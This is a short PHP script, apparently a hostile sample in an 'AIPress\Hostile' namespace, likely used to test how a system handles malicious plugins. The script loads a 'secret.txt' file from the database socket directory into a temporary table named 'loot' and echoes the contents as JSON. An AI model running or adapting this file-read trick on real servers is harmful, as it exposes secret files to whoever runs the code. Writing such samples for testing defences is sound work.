<?php
/** License: GPL-2.0-or-later */
declare(strict_types=1);

namespace AIPress\Hostile;

$database = database();
$database->query('CREATE TEMPORARY TABLE loot (line TEXT)');
$database->query("LOAD DATA INFILE '" . dirname(own()['database']['socket']) . "/secret.txt' INTO TABLE loot");
echo json_encode($database->query('SELECT line FROM loot')->fetch_all());
